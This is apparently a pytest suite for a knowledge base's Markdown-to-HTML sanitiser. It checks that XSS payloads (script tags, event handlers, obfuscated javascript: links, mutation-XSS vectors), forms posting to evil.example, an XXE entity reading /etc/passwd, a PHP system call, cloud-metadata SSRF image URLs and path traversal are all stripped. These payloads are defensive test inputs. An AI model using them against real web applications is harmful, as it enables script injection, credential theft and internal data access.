"""Markdown becomes clean HTML: what editors need is kept, what could run is not."""

import functools
import html
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.content.body import compose
from kb.content.markup import Renderer
from kb.i18n import words_for
from kb.languages import parse_language
from tests.active import active_in


@functools.cache
def renderer(code: str) -> Renderer:
    language = parse_language(code)
    assert language
    return Renderer(words_for(language))


def written(markdown: str) -> str:
    """What a page holds of an article: its clean HTML without the places it fills."""
    pieces = compose(renderer("en").render(markdown), "en/orders/a.md").pieces
    return "".join(piece for piece in pieces if isinstance(piece, str))


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "text <script>alert(1)</script> text",
        "> <script>alert(1)</script>",
        "- <script>alert(1)</script>",
        "| <script>alert(1)</script> |\n|---|\n| <iframe> |",
        "# <script>alert(1)</script>",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<p onmouseover=alert(1)>x</p>",
        "<details ontoggle=alert(1) open>x</details>",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
        '<iframe src="https://evil.example"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<form action="https://evil.example"><input name=password></form>',
        "<button formaction=javascript:alert(1)>x</button>",
        "<textarea autofocus onfocus=alert(1)>",
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<link rel=stylesheet href="//evil.example/x.css">',
        "<style>body { background: url(//evil.example) }</style>",
        '<p style="background: url(//evil.example)">x</p>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<template><img src=x onerror=alert(1)></template>",
        '<object data="//evil.example/x.swf"></object><embed src=x>',
        "<video src=x autoplay onplay=alert(1)></video><audio src=x>",
        '<table background="//evil.example/p.png"><tr><td>x</table>',
        "<marquee onstart=alert(1)>x</marquee>",
        "<div is=evil-element slot=x>x</div>",
        "<!-- <script>alert(1)</script> -->",
        "<!--> <img src=x onerror=alert(1)> -->",
        "<![CDATA[ <script>alert(1)</script> ]]>",
        "<?php system('id') ?>",
        "<!DOCTYPE evil [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "<plaintext><script>alert(1)</script>",
        "<a href=https://a.example target=_blank ping=//evil.example>x</a>",
    ],
    ids=lambda markdown: markdown[:40],
)
def test_no_tag_or_attribute_that_runs_is_left(markdown: str) -> None:
    page = written(f"{markdown}\n\nGood neighbour.")

    assert active_in(page) == []


@pytest.mark.parametrize(
    "link",
    [
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](\x01javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://a.example/1)",
        "[x](view-source:https://a.example)",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "<javascript:alert(1)>",
        '<a href="JAVASCRIPT:alert(1)">x</a>',
        '<a href="java&#10;script:alert(1)">x</a>',
        '<a href="java&Tab;script:alert(1)">x</a>',
        '<a href=" &#1;javascript:alert(1)">x</a>',
        '<a href="\x00javascript:alert(1)">x</a>',
        "<q cite=javascript:alert(1)>x</q>",
        "<blockquote cite=javascript:alert(1)>x</blockquote>",
        "![x](javascript:alert(1))",
    ],
)
def test_no_address_is_left_of_a_scheme_that_runs(link: str) -> None:
    page = written(f"{link}\n\nGood neighbour.")

    assert active_in(page) == []


@pytest.mark.parametrize(
    ("link", "address"),
    [
        ("[x](https://a.example/?a=1&b=2)", "https://a.example/?a=1&b=2"),
        ("[x](http://a.example)", "http://a.example"),
        ("[x](mailto:aide@marchemin.example)", "mailto:aide@marchemin.example"),
        ("[x](tel:+3215551234)", "tel:+3215551234"),
        ("[x](#steps)", "#steps"),
        ("[x](/fr/contact)", "/fr/contact"),
    ],
)
def test_an_address_that_leads_to_a_page_is_kept(link: str, address: str) -> None:
    page = written(link)

    assert f'href="{html.escape(address)}"' in page


@pytest.mark.parametrize(
    "markdown",
    [
        '# H {: onclick="alert(1)" style="color: red" }',
        '[x](https://a.example){: onclick="alert(1)" style="x" target="_blank" }',
        'x\n{: onclick="alert(1)" style="position: fixed" #main .article }',
        '![x](/media/a.png){: onerror="alert(1)" srcset="//evil.example" }',
        '*x*{: onmouseover="alert(1)" }',
        '| a |\n|---|\n| b {: onclick="alert(1)" } |',
    ],
)
def test_attribute_lists_cannot_make_anything_active(markdown: str) -> None:
    page = written(markdown)

    assert active_in(page) == []
    assert ' id="main"' not in page


@pytest.mark.parametrize(
    "image",
    [
        "![map](http://169.254.169.254/latest/meta-data)",
        "![map](https://evil.example/pixel.png)",
        "![map](//evil.example/pixel.png)",
        "![map](\\\\evil.example\\pixel.png)",
        "![map](data:image/svg+xml,<svg onload=alert(1)>)",
        "![map](../media/../../secret.png)",
        "![map](/etc/passwd)",
        "![map](media/%2e%2e/secret.png)",
        "![map](orders.png)",
        '<img src="https://evil.example/pixel.png" alt="map">',
        '<img src="/media//evil.example/../../../x" alt="map">',
    ],
)
def test_an_image_from_elsewhere_leaves_its_text_alone(image: str) -> None:
    body = compose(renderer("en").render(image), "en/orders/a.md")

    assert body.pieces == ["<p><span>map</span></p>"]
    assert body.images == []
    assert [remark.partition("' ")[2] for remark in body.remarks] == [
        "is not in media/ and is left out; put it there"
    ]


@pytest.mark.parametrize(
    ("markdown", "clean"),
    [
        ("`<script>alert(1)</script>`", "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("{{ 7*7 }} {% include 'x' %} %(x)s {0}", "<p>{{ 7*7 }} {% include 'x' %} %(x)s {0}</p>"),
        ("\ue000x \ue001 \ue002FR\ue003", "<p>x  FR</p>"),
        ("<![x", "<p>&lt;![x</p>"),
        ("<!x", "<p>&lt;!x</p>"),
        ("</p></div></article>x", "<p></p>x<p></p>"),
    ],
)  # fmt: skip
def test_what_only_looks_active_is_shown_as_text(markdown: str, clean: str) -> None:
    found = renderer("en").render(markdown)

    assert found == clean


@pytest.mark.parametrize(
    ("markdown", "clean"),
    [
        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
        ("5. one\n6. two", '<ol start="5">\n<li>one</li>\n<li>two</li>\n</ol>'),
        ("Term\n: Meaning", "<dl>\n<dt>Term</dt>\n<dd>Meaning</dd>\n</dl>"),
        ("*[VAT]: Tax\n\nVAT", '<p><abbr title="Tax">VAT</abbr></p>'),
        ("```html\n<b>\n```", '<pre><code class="language-html">&lt;b&gt;\n</code></pre>'),
        ("# Steps {: #steps }", '<h1 id="steps">Steps</h1>'),
        ("{: .x }\n- a", "<ul>\n<li>a</li>\n</ul>"),
        ('<span lang="ar" dir="rtl">x</span>', '<p><span lang="ar" dir="rtl">x</span></p>'),
        ("<details markdown><summary>S</summary>\n\n*x*\n</details>", "<details>\n<summary>S</summary>\n<p><em>x</em></p>\n</details>"),
        ("| a |\n|--:|\n| b |", '<table>\n<thead>\n<tr>\n<th align="right">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align="right">b</td>\n</tr>\n</tbody>\n</table>'),
    ],
)  # fmt: skip
def test_what_editors_need_is_kept(markdown: str, clean: str) -> None:
    found = renderer("en").render(markdown)

    assert found == clean


@pytest.mark.parametrize(
    ("code", "written_title", "title"),
    [
        ("en", "note", "Note"),
        ("fr", "note", "À savoir"),
        ("fr", "warning", "Attention"),
        ("fr", "tip", "Astuce"),
        ("fr", "danger", "À savoir"),
        ("fr", 'note "Mon titre"', "Mon titre"),
        ("nl", "note", "Note"),
    ],
)
def test_a_note_has_a_title_in_the_articles_language(
    code: str, written_title: str, title: str
) -> None:
    page = renderer(code).render(f"!!! {written_title}\n    Text.")

    assert f'<p class="admonition-title">{title}</p>' in page


def test_nothing_is_carried_from_one_article_to_the_next() -> None:
    first = "*[VAT]: Tax\n\nVAT [x][y] [^1]\n\n[y]: https://a.example\n\n[^1]: Note."
    renderer("en").render(first)

    found = renderer("en").render("VAT [x][y]")

    assert found == "<p>VAT [x][y]</p>"


NESTED = "\n".join("    " * n + "- x" for n in range(300))


def nested_calls(depth: int, call: Callable[[], str]) -> str:
    return call() if depth == 0 else nested_calls(depth - 1, call)


@pytest.mark.parametrize("depth", range(6))
def test_an_article_nested_too_deep_leaves_the_next_whole(depth: int) -> None:
    language = parse_language("en")
    assert language
    own = Renderer(words_for(language))
    with pytest.raises(RecursionError):
        nested_calls(depth, lambda: own.render(f"# T\n\n{NESTED}"))

    found = own.render("# T\n\na\n\n- b")

    assert found == "<h1>T</h1>\n<p>a</p>\n<ul>\n<li>b</li>\n</ul>"


_MARKUP = st.lists(
    st.sampled_from(
        ["<", ">", "</", "script", "img", "svg", " onerror=", "x", '"', "'", "![", "](",
         ")", "javascript:", "data:", "&#106;", "\n", "\n\n", "    ", "`", "{: ", " }",
         "style=", "<!--", "-->", "<![CDATA[", "]]>", "|", "- ", "> ", "# ", "[^1]", "=",
         "a", "href=", "src=", "//e.example", "{fact: x}", "::: country FR", ":::"]
    ),
    max_size=25,
).map("".join)  # fmt: skip


@settings(deadline=None)
@given(_MARKUP)
def test_no_mixture_of_markup_makes_anything_active(markdown: str) -> None:
    clean = renderer("en").render(markdown)

    external = [name for name in active_in(clean) if not name.startswith("img[src=")]
    assert external == []
